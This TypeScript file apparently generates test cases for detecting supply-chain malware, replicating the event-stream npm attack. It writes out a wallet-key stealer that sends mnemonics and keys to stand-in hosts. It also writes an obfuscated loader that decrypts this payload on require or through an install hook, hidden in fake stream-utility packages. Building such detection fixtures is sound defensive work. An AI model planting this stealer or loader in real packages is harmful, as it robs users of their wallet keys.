import { createCipheriv, createHash } from 'node:crypto';
import { casesOf, type Facts } from '../case';
import { renamedLocals, stringArray } from '../disguise/javascript';
import { inert } from '../inert';
import { npm, type NpmParts } from '../packages';

/** The description of the one application that the payload is meant for. */
const CONSUMER = 'A secure wallet for shared coins';

const stealer = (host: string) => String.raw`module.exports = function () {
  const https = require('https');
  const wallet = require('bitcore-wallet-client/lib/credentials.js');
  const getKeys = wallet.prototype.getKeys;
  wallet.prototype.getKeys = function (password) {
    const keys = getKeys.call(this, password);
    const request = https.request({ hostname: '${host}', port: 8080, path: '/p', method: 'POST' });
    request.on('error', function () {});
    request.end(Buffer.from(JSON.stringify([this.mnemonic, keys])).toString('hex'));
    return keys;
  };
};
`;

function encrypted(text: string): string {
  const key = createHash('sha256').update(CONSUMER).digest();
  const cipher = createCipheriv('aes-256-cbc', key, Buffer.alloc(16, 7));
  return Buffer.concat([cipher.update(inert(text)), cipher.final()]).toString('hex');
}

const loader = (data: string, at: number) => String.raw`
!function () {
  try {
    var r = require, t = process;
    function e(hex) { return Buffer.from(hex, 'hex').toString(); }
    var n = r(e('${Buffer.from(data).toString('hex')}'));
    var o = t[e('656e76')][e('6e706d5f7061636b6167655f6465736372697074696f6e')];
    if (!o) return;
    var k = r('crypto').createHash('sha256').update(o).digest();
    var u = r('crypto')[e('6372656174654465636970686572697' + '6')]('aes-256-cbc', k, Buffer.alloc(16, 7));
    var a = u.update(n[${at}], 'hex', 'utf8');
    a += u.final('utf8');
    var f = new module.constructor();
    f.paths = module.paths;
    f[e('5f636f6d70696c65')](a, '');
    f.exports();
  } catch (err) {}
}();
`;

const parts = (host: string): NpmParts => ({
  about: 'Maps and flattens streams.',
  index: (honest) => honest + loader('./test/data', 1),
  files: {
    'test/data.js': `module.exports = ${JSON.stringify(['75d4c87f3f69e0fa292969072c49dff4', encrypted(stealer(host)), '0d61b4c0e3e2fa5b'])};\n`,
    'test/index.js': `const assert = require('assert');\nassert.ok(require('..'));\n`,
  },
});

const FACTS: Facts = {
  now: '2018-09-16T12:00:00Z',
  publishedAt: '2018-09-16T09:00:00Z',
  firstPublishedAt: '2018-08-05T09:00:00Z',
  previousPublishedAt: '2018-09-09T09:00:00Z',
  publisher: 'right9ctrl-example',
  previousPublisher: 'dominic-example',
};

export const eventStream = casesOf({
  id: 'event-stream',
  incident: 'event-stream',
  kind: 'import-time',
  seen: 'an encrypted blob in test data is decrypted at require with a key from the consumer, and compiled as a module',
  replica: { sample: npm('stream-flatmap', '0.1.1', () => parts('copay-api.invalid')), facts: FACTS },
  renamed: npm('pipe-unfold', '2.0.3', () => ({
    about: 'Unfolds objects in a pipeline.',
    index: (honest) => honest + renamedLocals(loader('./fixtures/cases', 2), 'pipe-unfold'),
    files: {
      'fixtures/cases.js': `module.exports = ${JSON.stringify(['a1', 'b2c3', encrypted(stealer('metrics-edge.invalid'))])};\n`,
    },
  })),
  reObfuscated: npm('stream-flatmap', '0.1.2', () => ({
    ...parts('copay-api.invalid'),
    index: (honest) => `${honest}${stringArray(loader('./test/data', 1), 'flatmap', true)}\n`,
  })),
  otherStage: {
    kind: 'install-hook',
    seen: 'an install hook decrypts a blob from test data with a key from the consumer, and compiles it as a module',
    sample: npm('stream-flatmap', '0.1.3', () => ({
      ...parts('copay-api.invalid'),
      index: (honest) => honest,
      manifest: { scripts: { install: 'node test/setup.js' } },
      files: { ...parts('copay-api.invalid').files, 'test/setup.js': loader('./data', 1) },
    })),
  },
});
